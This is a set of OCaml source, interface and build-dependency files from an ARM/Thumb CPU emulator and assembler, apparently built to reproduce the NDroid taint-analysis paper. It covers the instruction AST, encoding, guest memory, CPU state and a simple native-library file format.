    | Insn.Vmov_core { cond = c; to_core; rt; sn } ->
      check_reg "rt" rt;
      let vn4, n = sreg sn in
      cond c lor (0b1110000 lsl 21)
      lor bit to_core (1 lsl 20)
      lor (vn4 lsl 16) lor (rt lsl 12) lor (0b1010 lsl 8) lor (n lsl 7) lor 0x10
    | Insn.Vcvt { cond = c; to_double; vd; vm } ->
      (* VCVT.F64.F32 (sz=0, source single) / VCVT.F32.F64 (sz=1) *)
      let (vd4, d), (vm4, m), sz =
        if to_double then (dreg vd, sreg vm, 0) else (sreg vd, dreg vm, 1)
      in
      cond c lor (0b11101 lsl 23) lor (d lsl 22) lor (0b11 lsl 20)
      lor (0b0111 lsl 16) lor (vd4 lsl 12) lor (0b101 lsl 9) lor (sz lsl 8)
      lor (0b11 lsl 6) lor (m lsl 5) lor vm4
    | Insn.Vcvt_int { cond = c; to_float; prec; vd; vm } ->
      let sz = match prec with Insn.F32 -> 0 | Insn.F64 -> 1 in
      let opc2 = if to_float then 0b1000 else 0b1101 in
      let (vd4, d), (vm4, m) =
        if to_float then (vfp_regs prec vd, sreg vm) else (sreg vd, vfp_regs prec vm)
      in
      cond c lor (0b11101 lsl 23) lor (d lsl 22) lor (0b11 lsl 20) lor (opc2 lsl 16)
      lor (vd4 lsl 12) lor (0b101 lsl 9) lor (sz lsl 8) lor (1 lsl 7) lor (1 lsl 6)
      lor (m lsl 5) lor vm4
  in
  word land mask32
