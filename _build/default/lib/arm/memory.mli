(** Sparse, page-granular guest memory.

    A single flat 32-bit little-endian address space shared by native code,
    native stack and heap, and mapped libraries.  Pages are allocated on
    first touch so mapping libraries at far-apart addresses (the memory-map
    layout NDroid's OS-level view reconstructor reports) costs nothing. *)

type t

val create : unit -> t

val read_u8 : t -> int -> int
val read_u16 : t -> int -> int
val read_u32 : t -> int -> int
val write_u8 : t -> int -> int -> unit
val write_u16 : t -> int -> int -> unit
val write_u32 : t -> int -> int -> unit

val read_bytes : t -> int -> int -> Bytes.t
(** [read_bytes m addr n] copies [n] bytes out of guest memory. *)

val write_bytes : t -> int -> Bytes.t -> unit
val write_string : t -> int -> string -> unit

val read_cstring : t -> ?max:int -> int -> string
(** [read_cstring m addr] reads a NUL-terminated string ([max] defaults to
    65536 bytes and bounds runaway reads). *)

val write_cstring : t -> int -> string -> unit
(** Write a string followed by a NUL byte. *)

val read_f32 : t -> int -> float
val read_f64 : t -> int -> float
val write_f32 : t -> int -> float -> unit
val write_f64 : t -> int -> float -> unit

val pages_touched : t -> int
(** Number of pages allocated so far (memory-map accounting). *)

val clear : t -> unit
