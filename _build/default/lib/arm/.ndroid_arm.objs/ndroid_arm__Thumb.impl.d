lib/arm/thumb.ml: Insn
