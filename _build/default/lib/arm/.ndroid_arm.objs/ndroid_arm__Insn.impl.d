lib/arm/insn.ml: Format List Printf
