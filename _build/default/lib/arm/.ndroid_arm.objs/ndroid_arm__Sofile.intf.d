lib/arm/sofile.mli: Asm
