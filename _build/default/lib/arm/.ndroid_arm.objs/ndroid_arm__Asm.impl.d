lib/arm/asm.ml: Bytes Char Cpu Encode Format Hashtbl Insn List Memory String Thumb
