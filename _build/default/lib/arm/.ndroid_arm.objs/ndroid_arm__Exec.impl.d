lib/arm/exec.ml: Array Cpu Decode Icache Insn Int32 Int64 List Memory Thumb
