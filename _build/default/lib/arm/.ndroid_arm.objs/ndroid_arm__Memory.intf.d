lib/arm/memory.mli: Bytes
