lib/arm/disasm.mli: Asm Cpu Format Insn Memory
