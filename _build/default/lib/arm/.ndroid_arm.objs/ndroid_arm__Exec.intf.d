lib/arm/exec.mli: Cpu Icache Insn Memory
