lib/arm/thumb.mli: Insn
