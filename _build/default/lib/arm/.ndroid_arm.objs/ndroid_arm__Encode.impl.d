lib/arm/encode.ml: Format Insn
