lib/arm/memory.ml: Buffer Bytes Char Hashtbl Int32 Int64 String
