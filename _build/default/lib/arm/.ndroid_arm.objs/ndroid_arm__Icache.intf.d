lib/arm/icache.mli: Insn
