lib/arm/cpu.ml: Array Format Insn
