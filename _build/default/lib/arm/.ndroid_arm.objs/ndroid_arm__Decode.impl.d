lib/arm/decode.ml: Insn
