lib/arm/icache.ml: Hashtbl Insn
