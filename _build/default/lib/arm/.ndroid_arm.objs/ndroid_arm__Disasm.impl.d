lib/arm/disasm.ml: Asm Cpu Decode Format Insn List Memory Thumb
