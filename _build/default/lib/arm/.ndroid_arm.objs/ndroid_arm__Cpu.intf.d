lib/arm/cpu.mli: Format Insn
