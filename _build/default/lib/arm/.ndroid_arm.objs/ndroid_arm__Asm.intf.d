lib/arm/asm.mli: Bytes Cpu Insn Memory
