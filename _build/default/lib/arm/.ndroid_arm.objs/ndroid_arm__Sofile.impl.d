lib/arm/sofile.ml: Asm Buffer Bytes Char Cpu Format List String
