type reg = int

let r0 = 0
let r1 = 1
let r2 = 2
let r3 = 3
let r4 = 4
let r5 = 5
let r6 = 6
let r7 = 7
let r8 = 8
let r9 = 9
let r10 = 10
let r11 = 11
let r12 = 12
let sp = 13
let lr = 14
let pc = 15

let pp_reg ppf r =
  match r with
  | 13 -> Format.pp_print_string ppf "sp"
  | 14 -> Format.pp_print_string ppf "lr"
  | 15 -> Format.pp_print_string ppf "pc"
  | n -> Format.fprintf ppf "r%d" n

type cond = EQ | NE | CS | CC | MI | PL | VS | VC | HI | LS | GE | LT | GT | LE | AL

let cond_code = function
  | EQ -> 0
  | NE -> 1
  | CS -> 2
  | CC -> 3
  | MI -> 4
  | PL -> 5
  | VS -> 6
  | VC -> 7
  | HI -> 8
  | LS -> 9
  | GE -> 10
  | LT -> 11
  | GT -> 12
  | LE -> 13
  | AL -> 14

let cond_of_code = function
  | 0 -> Some EQ
  | 1 -> Some NE
  | 2 -> Some CS
  | 3 -> Some CC
  | 4 -> Some MI
  | 5 -> Some PL
  | 6 -> Some VS
  | 7 -> Some VC
  | 8 -> Some HI
  | 9 -> Some LS
  | 10 -> Some GE
  | 11 -> Some LT
  | 12 -> Some GT
  | 13 -> Some LE
  | 14 -> Some AL
  | _ -> None

let cond_name = function
  | EQ -> "EQ"
  | NE -> "NE"
  | CS -> "CS"
  | CC -> "CC"
  | MI -> "MI"
  | PL -> "PL"
  | VS -> "VS"
  | VC -> "VC"
  | HI -> "HI"
  | LS -> "LS"
  | GE -> "GE"
  | LT -> "LT"
  | GT -> "GT"
  | LE -> "LE"
  | AL -> ""

let pp_cond ppf c = Format.pp_print_string ppf (cond_name c)

type shift_kind = LSL | LSR | ASR | ROR

let shift_code = function LSL -> 0 | LSR -> 1 | ASR -> 2 | ROR -> 3

let shift_of_code = function
  | 0 -> LSL
  | 1 -> LSR
  | 2 -> ASR
  | 3 -> ROR
  | n -> invalid_arg (Printf.sprintf "shift_of_code %d" n)

let pp_shift ppf k =
  Format.pp_print_string ppf
    (match k with LSL -> "LSL" | LSR -> "LSR" | ASR -> "ASR" | ROR -> "ROR")

type operand2 =
  | Imm of int
  | Reg of reg
  | Reg_shift_imm of reg * shift_kind * int
  | Reg_shift_reg of reg * shift_kind * reg

type dp_op =
  | AND
  | EOR
  | SUB
  | RSB
  | ADD
  | ADC
  | SBC
  | RSC
  | TST
  | TEQ
  | CMP
  | CMN
  | ORR
  | MOV
  | BIC
  | MVN

let dp_code = function
  | AND -> 0
  | EOR -> 1
  | SUB -> 2
  | RSB -> 3
  | ADD -> 4
  | ADC -> 5
  | SBC -> 6
  | RSC -> 7
  | TST -> 8
  | TEQ -> 9
  | CMP -> 10
  | CMN -> 11
  | ORR -> 12
  | MOV -> 13
  | BIC -> 14
  | MVN -> 15

let dp_of_code = function
  | 0 -> AND
  | 1 -> EOR
  | 2 -> SUB
  | 3 -> RSB
  | 4 -> ADD
  | 5 -> ADC
  | 6 -> SBC
  | 7 -> RSC
  | 8 -> TST
  | 9 -> TEQ
  | 10 -> CMP
  | 11 -> CMN
  | 12 -> ORR
  | 13 -> MOV
  | 14 -> BIC
  | 15 -> MVN
  | n -> invalid_arg (Printf.sprintf "dp_of_code %d" n)

let dp_name = function
  | AND -> "AND"
  | EOR -> "EOR"
  | SUB -> "SUB"
  | RSB -> "RSB"
  | ADD -> "ADD"
  | ADC -> "ADC"
  | SBC -> "SBC"
  | RSC -> "RSC"
  | TST -> "TST"
  | TEQ -> "TEQ"
  | CMP -> "CMP"
  | CMN -> "CMN"
  | ORR -> "ORR"
  | MOV -> "MOV"
  | BIC -> "BIC"
  | MVN -> "MVN"

let pp_dp_op ppf op = Format.pp_print_string ppf (dp_name op)
let is_test_op = function TST | TEQ | CMP | CMN -> true | _ -> false

let is_move_op = function
  | MOV | MVN -> true
  | AND | EOR | SUB | RSB | ADD | ADC | SBC | RSC | TST | TEQ | CMP | CMN | ORR
  | BIC ->
    false

type mem_offset = Off_imm of int | Off_reg of bool * reg * shift_kind * int
type block_mode = IA | IB | DA | DB
type mem_width = Word | Byte | Half
type vfp_prec = F32 | F64
type vfp_op = VADD | VSUB | VMUL | VDIV

type t =
  | Dp of { cond : cond; op : dp_op; s : bool; rd : reg; rn : reg; op2 : operand2 }
  | Mul of { cond : cond; s : bool; rd : reg; rm : reg; rs : reg }
  | Mla of { cond : cond; s : bool; rd : reg; rm : reg; rs : reg; rn : reg }
  | Mull of
      { cond : cond; signed : bool; s : bool; rdlo : reg; rdhi : reg; rm : reg;
        rs : reg }
  | Clz of { cond : cond; rd : reg; rm : reg }
  | Mem of
      { cond : cond;
        load : bool;
        width : mem_width;
        rd : reg;
        rn : reg;
        offset : mem_offset;
        pre : bool;
        writeback : bool
      }
  | Block of
      { cond : cond;
        load : bool;
        rn : reg;
        mode : block_mode;
        writeback : bool;
        regs : int
      }
  | B of { cond : cond; link : bool; offset : int }
  | Bx of { cond : cond; link : bool; rm : reg }
  | Svc of { cond : cond; imm : int }
  | Vdp of { cond : cond; op : vfp_op; prec : vfp_prec; vd : int; vn : int; vm : int }
  | Vmem of
      { cond : cond; load : bool; prec : vfp_prec; vd : int; rn : reg; offset : int }
  | Vmov_core of { cond : cond; to_core : bool; rt : reg; sn : int }
  | Vcvt of { cond : cond; to_double : bool; vd : int; vm : int }
  | Vcvt_int of { cond : cond; to_float : bool; prec : vfp_prec; vd : int; vm : int }

let cond_of = function
  | Dp { cond; _ }
  | Mul { cond; _ }
  | Mla { cond; _ }
  | Mull { cond; _ }
  | Clz { cond; _ }
  | Mem { cond; _ }
  | Block { cond; _ }
  | B { cond; _ }
  | Bx { cond; _ }
  | Svc { cond; _ }
  | Vdp { cond; _ }
  | Vmem { cond; _ }
  | Vmov_core { cond; _ }
  | Vcvt { cond; _ }
  | Vcvt_int { cond; _ } ->
    cond

let reg_list_mask regs = List.fold_left (fun m r -> m lor (1 lsl r)) 0 regs

let regs_of_mask mask =
  let rec loop acc i =
    if i < 0 then acc
    else if mask land (1 lsl i) <> 0 then loop (i :: acc) (i - 1)
    else loop acc (i - 1)
  in
  loop [] 15

let pp_op2 ppf = function
  | Imm n -> Format.fprintf ppf "#%d" n
  | Reg r -> pp_reg ppf r
  | Reg_shift_imm (r, k, n) -> Format.fprintf ppf "%a %a #%d" pp_reg r pp_shift k n
  | Reg_shift_reg (r, k, rs) ->
    Format.fprintf ppf "%a %a %a" pp_reg r pp_shift k pp_reg rs

let pp_mem_offset ppf = function
  | Off_imm n -> Format.fprintf ppf "#%d" n
  | Off_reg (up, r, _, 0) -> Format.fprintf ppf "%s%a" (if up then "" else "-") pp_reg r
  | Off_reg (up, r, k, n) ->
    Format.fprintf ppf "%s%a %a #%d" (if up then "" else "-") pp_reg r pp_shift k n

let pp ppf insn =
  let c = cond_name (cond_of insn) in
  match insn with
  | Dp { op; s; rd; rn; op2; _ } ->
    let sfx = if s && not (is_test_op op) then "S" else "" in
    if is_test_op op then
      Format.fprintf ppf "%s%s %a, %a" (dp_name op) c pp_reg rn pp_op2 op2
    else if is_move_op op then
      Format.fprintf ppf "%s%s%s %a, %a" (dp_name op) c sfx pp_reg rd pp_op2 op2
    else
      Format.fprintf ppf "%s%s%s %a, %a, %a" (dp_name op) c sfx pp_reg rd pp_reg rn
        pp_op2 op2
  | Mul { s; rd; rm; rs; _ } ->
    Format.fprintf ppf "MUL%s%s %a, %a, %a" c (if s then "S" else "") pp_reg rd
      pp_reg rm pp_reg rs
  | Mla { s; rd; rm; rs; rn; _ } ->
    Format.fprintf ppf "MLA%s%s %a, %a, %a, %a" c (if s then "S" else "") pp_reg rd
      pp_reg rm pp_reg rs pp_reg rn
  | Mull { signed; s; rdlo; rdhi; rm; rs; _ } ->
    Format.fprintf ppf "%sMULL%s%s %a, %a, %a, %a"
      (if signed then "S" else "U")
      c (if s then "S" else "") pp_reg rdlo pp_reg rdhi pp_reg rm pp_reg rs
  | Clz { rd; rm; _ } -> Format.fprintf ppf "CLZ%s %a, %a" c pp_reg rd pp_reg rm
  | Mem { load; width; rd; rn; offset; pre; writeback; _ } ->
    let name = if load then "LDR" else "STR" in
    let w = match width with Word -> "" | Byte -> "B" | Half -> "H" in
    if pre then
      Format.fprintf ppf "%s%s%s %a, [%a, %a]%s" name c w pp_reg rd pp_reg rn
        pp_mem_offset offset
        (if writeback then "!" else "")
    else
      Format.fprintf ppf "%s%s%s %a, [%a], %a" name c w pp_reg rd pp_reg rn
        pp_mem_offset offset
  | Block { load; rn; mode; writeback; regs; _ } ->
    let name = if load then "LDM" else "STM" in
    let m = match mode with IA -> "IA" | IB -> "IB" | DA -> "DA" | DB -> "DB" in
    let rl = regs_of_mask regs in
    Format.fprintf ppf "%s%s%s %a%s, {%a}" name m c pp_reg rn
      (if writeback then "!" else "")
      (Format.pp_print_list
         ~pp_sep:(fun ppf () -> Format.pp_print_string ppf ", ")
         pp_reg)
      rl
  | B { link; offset; _ } ->
    Format.fprintf ppf "B%s%s #%d" (if link then "L" else "") c offset
  | Bx { link; rm; _ } ->
    Format.fprintf ppf "B%sX%s %a" (if link then "L" else "") c pp_reg rm
  | Svc { imm; _ } -> Format.fprintf ppf "SVC%s #0x%x" c imm
  | Vdp { op; prec; vd; vn; vm; _ } ->
    let name =
      match op with VADD -> "VADD" | VSUB -> "VSUB" | VMUL -> "VMUL" | VDIV -> "VDIV"
    in
    let p, b = match prec with F32 -> (".F32", "s") | F64 -> (".F64", "d") in
    Format.fprintf ppf "%s%s%s %s%d, %s%d, %s%d" name c p b vd b vn b vm
  | Vmem { load; prec; vd; rn; offset; _ } ->
    let name = if load then "VLDR" else "VSTR" in
    let b = match prec with F32 -> "s" | F64 -> "d" in
    Format.fprintf ppf "%s%s %s%d, [%a, #%d]" name c b vd pp_reg rn offset
  | Vmov_core { to_core; rt; sn; _ } ->
    if to_core then Format.fprintf ppf "VMOV%s %a, s%d" c pp_reg rt sn
    else Format.fprintf ppf "VMOV%s s%d, %a" c sn pp_reg rt
  | Vcvt { to_double; vd; vm; _ } ->
    if to_double then Format.fprintf ppf "VCVT%s.F64.F32 d%d, s%d" c vd vm
    else Format.fprintf ppf "VCVT%s.F32.F64 s%d, d%d" c vd vm
  | Vcvt_int { to_float; prec; vd; vm; _ } -> (
    match (to_float, prec) with
    | true, F32 -> Format.fprintf ppf "VCVT%s.F32.S32 s%d, s%d" c vd vm
    | true, F64 -> Format.fprintf ppf "VCVT%s.F64.S32 d%d, s%d" c vd vm
    | false, F32 -> Format.fprintf ppf "VCVT%s.S32.F32 s%d, s%d" c vd vm
    | false, F64 -> Format.fprintf ppf "VCVT%s.S32.F64 s%d, d%d" c vd vm)

let to_string insn = Format.asprintf "%a" pp insn

let dp ?(cond = AL) ?(s = false) op rd rn op2 = Dp { cond; op; s; rd; rn; op2 }
let mov rd op2 = dp MOV rd 0 op2
let movs rd op2 = dp ~s:true MOV rd 0 op2
let mvn rd op2 = dp MVN rd 0 op2
let add rd rn op2 = dp ADD rd rn op2
let adds rd rn op2 = dp ~s:true ADD rd rn op2
let adc rd rn op2 = dp ADC rd rn op2
let sub rd rn op2 = dp SUB rd rn op2
let subs rd rn op2 = dp ~s:true SUB rd rn op2
let rsb rd rn op2 = dp RSB rd rn op2
let and_ rd rn op2 = dp AND rd rn op2
let orr rd rn op2 = dp ORR rd rn op2
let eor rd rn op2 = dp EOR rd rn op2
let bic rd rn op2 = dp BIC rd rn op2
let cmp rn op2 = dp ~s:true CMP 0 rn op2
let cmn rn op2 = dp ~s:true CMN 0 rn op2
let tst rn op2 = dp ~s:true TST 0 rn op2
let mul rd rm rs = Mul { cond = AL; s = false; rd; rm; rs }
let mla rd rm rs rn = Mla { cond = AL; s = false; rd; rm; rs; rn }

let umull rdlo rdhi rm rs =
  Mull { cond = AL; signed = false; s = false; rdlo; rdhi; rm; rs }

let smull rdlo rdhi rm rs =
  Mull { cond = AL; signed = true; s = false; rdlo; rdhi; rm; rs }

let clz rd rm = Clz { cond = AL; rd; rm }

let mem load width rd rn off =
  Mem { cond = AL; load; width; rd; rn; offset = Off_imm off; pre = true; writeback = false }

let ldr rd rn off = mem true Word rd rn off
let str rd rn off = mem false Word rd rn off
let ldrb rd rn off = mem true Byte rd rn off
let strb rd rn off = mem false Byte rd rn off
let ldrh rd rn off = mem true Half rd rn off
let strh rd rn off = mem false Half rd rn off

let push regs =
  Block { cond = AL; load = false; rn = sp; mode = DB; writeback = true;
          regs = reg_list_mask regs }

let pop regs =
  Block { cond = AL; load = true; rn = sp; mode = IA; writeback = true;
          regs = reg_list_mask regs }

let bx_lr = Bx { cond = AL; link = false; rm = lr }
let blx_reg rm = Bx { cond = AL; link = true; rm }
let svc imm = Svc { cond = AL; imm }
