(** Thumb (16-bit) instruction support.

    Thumb instructions decode into the same {!Insn.t} AST as ARM ones, so the
    executor and NDroid's taint rules (Table V applies to "ARM/Thumb
    instructions" uniformly) need a single implementation.  BL is the only
    32-bit encoding supported, consuming two halfwords.

    In this AST, a Thumb [LSLS rd, rm, #n] becomes
    [Dp {op = MOV; s = true; op2 = Reg_shift_imm (rm, LSL, n)}], a Thumb
    [NEG rd, rm] becomes [RSB rd, rm, #0], and so on: the mapping preserves
    semantics exactly, including flag setting. *)

val decode : int -> int option -> (Insn.t * int) option
(** [decode half next] decodes the halfword [half]; [next] supplies the
    following halfword for 32-bit BL pairs.  Returns the instruction and its
    size in bytes (2 or 4), or [None] outside the supported subset. *)

val encode : Insn.t -> int list option
(** [encode insn] is the halfword sequence encoding [insn] in Thumb, or
    [None] when the instruction has no Thumb-16 encoding (e.g. it uses high
    registers, shifts, or conditions that require ARM or Thumb-2). *)

val encodable : Insn.t -> bool
(** [encodable insn] is [true] iff {!encode} succeeds. *)
