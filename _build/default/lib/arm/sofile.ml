exception Bad_sofile of string

let magic = "\x7fSO\x01"

let err fmt = Format.kasprintf (fun s -> raise (Bad_sofile s)) fmt

(* little-endian primitives over Buffer / string *)
let put_u8 b v = Buffer.add_char b (Char.chr (v land 0xFF))

let put_u32 b v =
  put_u8 b v;
  put_u8 b (v lsr 8);
  put_u8 b (v lsr 16);
  put_u8 b (v lsr 24)

let put_str b s =
  put_u32 b (String.length s);
  Buffer.add_string b s

type reader = { src : string; mutable pos : int }

let need r n = if r.pos + n > String.length r.src then err "truncated at %d" r.pos

let get_u8 r =
  need r 1;
  let v = Char.code r.src.[r.pos] in
  r.pos <- r.pos + 1;
  v

let get_u32 r =
  let a = get_u8 r in
  let b = get_u8 r in
  let c = get_u8 r in
  let d = get_u8 r in
  a lor (b lsl 8) lor (c lsl 16) lor (d lsl 24)

let get_str r =
  let n = get_u32 r in
  if n > 0x100000 then err "string length %d implausible" n;
  need r n;
  let s = String.sub r.src r.pos n in
  r.pos <- r.pos + n;
  s

let to_string prog =
  let b = Buffer.create 256 in
  Buffer.add_string b magic;
  put_u8 b (match Asm.mode prog with Cpu.Arm -> 0 | Cpu.Thumb -> 1);
  put_u32 b (Asm.base prog);
  let code = Asm.code prog in
  put_u32 b (Bytes.length code);
  Buffer.add_bytes b code;
  let symbols = List.sort compare (Asm.symbols prog) in
  put_u32 b (List.length symbols);
  List.iter
    (fun (name, addr) ->
      put_str b name;
      put_u32 b addr)
    symbols;
  Buffer.contents b

let of_string s =
  let r = { src = s; pos = 0 } in
  need r 4;
  if String.sub s 0 4 <> magic then err "bad magic";
  r.pos <- 4;
  let mode = match get_u8 r with 0 -> Cpu.Arm | 1 -> Cpu.Thumb | m -> err "bad mode %d" m in
  let base = get_u32 r in
  let code_len = get_u32 r in
  if code_len > 0x1000000 then err "code size %d implausible" code_len;
  need r code_len;
  let code = Bytes.of_string (String.sub s r.pos code_len) in
  r.pos <- r.pos + code_len;
  let nsyms = get_u32 r in
  if nsyms > 0x10000 then err "symbol count %d implausible" nsyms;
  let symbols = List.init nsyms (fun _ ->
      let name = get_str r in
      let addr = get_u32 r in
      (name, addr))
  in
  Asm.of_raw ~base ~mode ~code ~symbols
