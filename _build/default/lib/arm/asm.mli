(** Two-pass assembler for building native libraries.

    Scenario apps' native libraries (the [.so] files of the paper's case
    studies) are written as item lists, assembled to real machine code at a
    base address, and loaded into guest memory.  External symbols (JNI
    functions in libdvm, libc functions, …) are resolved through a lookup
    the emulator provides, and calls to them use the load-address +
    BLX-register idiom so any 32-bit address is reachable. *)

type item =
  | I of Insn.t  (** a single instruction *)
  | Label of string  (** define a local symbol here *)
  | Br of Insn.cond * string  (** conditional branch to a local label *)
  | Bl of string  (** branch-and-link to a local label *)
  | Call of string  (** absolute call through r12 to a local or extern symbol *)
  | Li of int * int  (** load a full 32-bit immediate into a register *)
  | La of int * string
      (** load the absolute address of a local or extern symbol *)
  | Word of int  (** 32-bit literal data *)
  | Asciz of string  (** NUL-terminated string data *)
  | Align4  (** pad to a 4-byte boundary *)

type program

exception Asm_error of string

val assemble :
  ?mode:Cpu.mode -> ?extern:(string -> int option) -> base:int -> item list -> program
(** [assemble ~base items] lays the items out starting at [base] and encodes
    them in [mode] (default ARM).  [extern] resolves symbols not defined by
    a [Label]. @raise Asm_error on undefined symbols, unencodable
    instructions, or out-of-range branches. *)

val code : program -> Bytes.t
(** The raw machine code + data. *)

val base : program -> int

val size : program -> int

val mode : program -> Cpu.mode

val symbols : program -> (string * int) list
(** Every label with its absolute address. *)

val symbol : program -> string -> int
(** Absolute address of a label. @raise Not_found if undefined. *)

val fn_addr : program -> string -> int
(** Address of a label as a *call target*: for Thumb programs the low bit is
    set so BX/BLX interworking enters Thumb state. *)

val load : program -> Memory.t -> unit
(** Copy the assembled bytes into guest memory at the program's base. *)

val of_raw :
  base:int -> mode:Cpu.mode -> code:Bytes.t -> symbols:(string * int) list ->
  program
(** Reconstitute a program from its parts — the deserialization path of
    {!Sofile}. *)
