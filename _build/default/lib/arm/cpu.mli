(** ARM CPU state: 16 core registers, NZCV flags, execution mode, and the
    VFP register banks used by the floating-point CF-Bench workloads. *)

(** Instruction-set state, switched by BX/BLX interworking. *)
type mode = Arm | Thumb

type t = {
  regs : int array;  (** r0..r15 as unsigned 32-bit values *)
  mutable n : bool;
  mutable z : bool;
  mutable c : bool;
  mutable v : bool;
  mutable mode : mode;
  vfp_s : float array;  (** s0..s31, single precision *)
  vfp_d : float array;  (** d0..d15, double precision *)
}

val create : unit -> t
(** Fresh CPU: all registers zero, flags clear, ARM mode. *)

val reg : t -> int -> int
(** [reg cpu i] reads register [i] (masked to 32 bits). Reading r15 gives the
    raw stored PC; instruction-relative PC reads are the executor's job. *)

val set_reg : t -> int -> int -> unit
(** Write register [i], masking to 32 bits. *)

val pc : t -> int
val set_pc : t -> int -> unit
val sp : t -> int
val set_sp : t -> int -> unit
val lr : t -> int

val set_nz : t -> int -> unit
(** Set N and Z from a 32-bit result. *)

val cond_passed : t -> Insn.cond -> bool
(** Evaluate a condition code against the current flags. *)

val copy : t -> t
(** Deep copy, for save/restore around nested invocations. *)

val reset : t -> unit
(** Zero all state in place. *)

val pp : Format.formatter -> t -> unit
(** One-line register dump for logs. *)
