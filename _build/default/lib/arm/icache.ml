type t = {
  table : (int, Insn.t * int) Hashtbl.t;
  mutable hits : int;
  mutable misses : int;
}

let create () = { table = Hashtbl.create 4096; hits = 0; misses = 0 }

let find c addr =
  match Hashtbl.find_opt c.table addr with
  | Some _ as r ->
    c.hits <- c.hits + 1;
    r
  | None ->
    c.misses <- c.misses + 1;
    None

let store c addr entry = Hashtbl.replace c.table addr entry

let clear c =
  Hashtbl.reset c.table;
  c.hits <- 0;
  c.misses <- 0

let hits c = c.hits
let misses c = c.misses
