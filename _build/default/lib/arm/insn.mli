(** ARM/Thumb instruction AST.

    This is the instruction vocabulary of the simulated CPU.  It covers the
    subset needed by the paper's native workloads: the full data-processing
    family, multiply, single and multiple load/store (including PUSH/POP),
    branches (B/BL/BX/BLX), SVC, and a VFP slice for the floating-point
    CF-Bench workloads.  Each constructor corresponds to one row family of
    Table V's taint propagation logic.

    Instructions decoded from Thumb halfwords are represented with the same
    AST (a Thumb [ADDS r0, r1, r2] means the same thing as the ARM one), so
    the executor and NDroid's instruction tracer handle both instruction
    sets with a single rule table, mirroring how the paper's tracer
    "processes ARM/Thumb instructions" uniformly. *)

type reg = int
(** Register number 0..15.  13 = SP, 14 = LR, 15 = PC. *)

val r0 : reg
val r1 : reg
val r2 : reg
val r3 : reg
val r4 : reg
val r5 : reg
val r6 : reg
val r7 : reg
val r8 : reg
val r9 : reg
val r10 : reg
val r11 : reg
val r12 : reg
val sp : reg
val lr : reg
val pc : reg

val pp_reg : Format.formatter -> reg -> unit

(** Condition codes, encoded in bits 31:28 of every ARM instruction. *)
type cond =
  | EQ
  | NE
  | CS
  | CC
  | MI
  | PL
  | VS
  | VC
  | HI
  | LS
  | GE
  | LT
  | GT
  | LE
  | AL

val cond_code : cond -> int
(** The 4-bit encoding of a condition. *)

val cond_of_code : int -> cond option
(** Inverse of {!cond_code}; [None] for 0b1111 (unconditional space). *)

val pp_cond : Format.formatter -> cond -> unit

(** Barrel-shifter operations. *)
type shift_kind = LSL | LSR | ASR | ROR

val shift_code : shift_kind -> int
val shift_of_code : int -> shift_kind
val pp_shift : Format.formatter -> shift_kind -> unit

(** The flexible second operand of data-processing instructions. *)
type operand2 =
  | Imm of int  (** 8-bit immediate rotated right by an even amount *)
  | Reg of reg
  | Reg_shift_imm of reg * shift_kind * int
  | Reg_shift_reg of reg * shift_kind * reg

(** Data-processing opcodes, in their 4-bit encoding order. *)
type dp_op =
  | AND
  | EOR
  | SUB
  | RSB
  | ADD
  | ADC
  | SBC
  | RSC
  | TST
  | TEQ
  | CMP
  | CMN
  | ORR
  | MOV
  | BIC
  | MVN

val dp_code : dp_op -> int
val dp_of_code : int -> dp_op
val pp_dp_op : Format.formatter -> dp_op -> unit

val is_test_op : dp_op -> bool
(** [true] for TST/TEQ/CMP/CMN, which write flags only. *)

val is_move_op : dp_op -> bool
(** [true] for MOV/MVN, which ignore [rn]. *)

(** Addressing offset of single load/store. *)
type mem_offset =
  | Off_imm of int  (** signed immediate, -4095..4095 *)
  | Off_reg of bool * reg * shift_kind * int
      (** [Off_reg (up, rm, kind, amount)]: +/- shifted register *)

(** Block-transfer addressing modes of LDM/STM. *)
type block_mode = IA | IB | DA | DB

(** Width of single load/store transfers. *)
type mem_width = Word | Byte | Half

(** VFP precision. *)
type vfp_prec = F32 | F64

(** VFP data-processing operations. *)
type vfp_op = VADD | VSUB | VMUL | VDIV

(** The instruction set. *)
type t =
  | Dp of { cond : cond; op : dp_op; s : bool; rd : reg; rn : reg; op2 : operand2 }
      (** Data processing.  For test ops [rd] = 0; for moves [rn] = 0. *)
  | Mul of { cond : cond; s : bool; rd : reg; rm : reg; rs : reg }
      (** [rd := rm * rs] *)
  | Mla of { cond : cond; s : bool; rd : reg; rm : reg; rs : reg; rn : reg }
      (** [rd := rm * rs + rn] *)
  | Mull of
      { cond : cond; signed : bool; s : bool; rdlo : reg; rdhi : reg; rm : reg;
        rs : reg }  (** UMULL/SMULL: [rdhi:rdlo := rm * rs] (64-bit) *)
  | Clz of { cond : cond; rd : reg; rm : reg }
      (** count leading zeros *)
  | Mem of
      { cond : cond;
        load : bool;
        width : mem_width;
        rd : reg;
        rn : reg;
        offset : mem_offset;
        pre : bool;  (** pre-indexed (offset applied before access) *)
        writeback : bool  (** base register updated *)
      }  (** LDR/STR and byte/halfword variants. *)
  | Block of
      { cond : cond;
        load : bool;
        rn : reg;
        mode : block_mode;
        writeback : bool;
        regs : int  (** register-list bitmask, bit i = register i *)
      }  (** LDM/STM; PUSH = [STM DB SP!], POP = [LDM IA SP!]. *)
  | B of { cond : cond; link : bool; offset : int }
      (** Branch; [offset] is in instructions (words), relative to PC+8. *)
  | Bx of { cond : cond; link : bool; rm : reg }
      (** BX/BLX (register). *)
  | Svc of { cond : cond; imm : int }  (** Supervisor call. *)
  | Vdp of
      { cond : cond; op : vfp_op; prec : vfp_prec; vd : int; vn : int; vm : int }
      (** VFP arithmetic on s (F32) or d (F64) registers. *)
  | Vmem of
      { cond : cond; load : bool; prec : vfp_prec; vd : int; rn : reg; offset : int }
      (** VLDR/VSTR; [offset] is a signed multiple of 4 bytes. *)
  | Vmov_core of { cond : cond; to_core : bool; rt : reg; sn : int }
      (** VMOV between a core register and an s register. *)
  | Vcvt of { cond : cond; to_double : bool; vd : int; vm : int }
      (** VCVT.F64.F32 / VCVT.F32.F64. *)
  | Vcvt_int of { cond : cond; to_float : bool; prec : vfp_prec; vd : int; vm : int }
      (** VCVT between a signed 32-bit integer (held in an s register) and
          F32/F64. *)

val cond_of : t -> cond
(** The condition under which an instruction executes. *)

val pp : Format.formatter -> t -> unit
(** Disassembly-style printer, e.g. [ADDS r0, r1, r2 LSL #3]. *)

val to_string : t -> string

(** {1 Convenience constructors (condition AL, no flags)} *)

val mov : reg -> operand2 -> t
val movs : reg -> operand2 -> t
val mvn : reg -> operand2 -> t
val add : reg -> reg -> operand2 -> t
